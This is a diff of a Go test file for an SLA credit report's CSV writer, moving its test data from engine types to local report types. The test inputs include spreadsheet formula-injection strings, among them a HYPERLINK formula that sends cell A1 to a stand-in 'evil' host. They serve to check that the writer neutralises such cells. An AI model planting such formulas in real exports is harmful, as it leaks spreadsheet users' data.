@@ -3,8 +3,6 @@ package report
 import (
 	"bytes"
 	"testing"
-
-	"github.com/slawatch/slawatch/engine"
 )
 
 // A report whose names and IDs look like formulas: every such text cell
@@ -19,11 +17,11 @@ import (
 // credit 95.00. encoding/csv quotes the cells holding " or \r, as it
 // always does.
 func TestWriteCreditsFormulas(t *testing.T) {
-	rep := &engine.Report{Month: "2026-10", Currency: "EUR", Customers: []engine.CustomerReport{{
+	rep := &Report{Month: "2026-10", Currency: "EUR", Customers: []CustomerReport{{
 		ID: "acme",
-		Services: []engine.ServiceReport{{ID: "+svc", Site: `=HYPERLINK("http://evil/?"&A1,"x")`,
-			Levels: []engine.LevelReport{{Template: "t/mttr", Credit: "95.00", Items: []engine.ItemJSON{
-				{ID: "@SUM(1+1)", CreditPct: "-2.5", Credit: "-5.00", Claim: &engine.ClaimJSON{
+		Services: []ServiceReport{{ID: "+svc", Site: `=HYPERLINK("http://evil/?"&A1,"x")`,
+			Levels: []LevelReport{{Template: "t/mttr", Credit: "95.00", Items: []ItemJSON{
+				{ID: "@SUM(1+1)", CreditPct: "-2.5", Credit: "-5.00", Claim: &ClaimJSON{
 					ClaimBy: "2026-11-30", Status: "\rclaimed", ClaimID: "-2+3", Reason: "\t=1+1"}},
 				{ID: "-12", CreditPct: "10", Credit: "100.00"},
 			}}}}},
@@ -76,19 +74,19 @@ func TestSafeCell(t *testing.T) {
 // capped to 0.00; an item earned 2000, capped to 500. The uptime level
 // was not reduced: no pre_cap, no cap.
 func TestWriteCreditsCapped(t *testing.T) {
-	claim := func(amount, pre, capID string) *engine.ClaimJSON {
-		return &engine.ClaimJSON{Amount: amount, PreCap: pre, Cap: capID, ClaimBy: "2026-12-31T23:59:59Z", Status: "claimed", ClaimID: "C1"}
+	claim := func(amount, pre, capID string) *ClaimJSON {
+		return &ClaimJSON{Amount: amount, PreCap: pre, Cap: capID, ClaimBy: "2026-12-31T23:59:59Z", Status: "claimed", ClaimID: "C1"}
 	}
-	rep := &engine.Report{Month: "2026-11", Currency: "USD", Customers: []engine.CustomerReport{{
+	rep := &Report{Month: "2026-11", Currency: "USD", Customers: []CustomerReport{{
 		ID: "acme",
-		Services: []engine.ServiceReport{{ID: "pc", Levels: []engine.LevelReport{
+		Services: []ServiceReport{{ID: "pc", Levels: []LevelReport{
 			{Template: "aryaka/privatecore-uptime", CreditPct: "20", Credit: "192.00", Claim: claim("192.00", "", "")},
 			{Template: "aryaka/privatecore-loss", CreditPct: "10", Credit: "48.00", PreCap: "96.00", Cap: "aryaka/site-cap", CapApplied: true,
 				Claim: claim("48.00", "96.00", "aryaka/site-cap")},
 			{Template: "aryaka/privatecore-jitter", CreditPct: "10", Credit: "0.00", PreCap: "96.00", Cap: "aryaka/site-cap", CapApplied: true,
 				Claim: claim("0.00", "96.00", "aryaka/site-cap")},
 			{Template: "aryaka/anap-ha", CreditPct: "per item", Credit: "500", PreCap: "2000", Cap: "aryaka/site-cap", CapApplied: true,
-				Items: []engine.ItemJSON{{ID: "F2", CreditPct: "10", Credit: "500", PreCap: "2000", Cap: "aryaka/site-cap"}}},
+				Items: []ItemJSON{{ID: "F2", CreditPct: "10", Credit: "500", PreCap: "2000", Cap: "aryaka/site-cap"}}},
 		}}},
 	}}}
 	want := "month,customer,service,site,level,item,credit_pct,credit,currency,level_credit,capped,claim_by,confirm_by,claim_status,claim_id,invoice_by,reason,pre_cap,cap\n" +
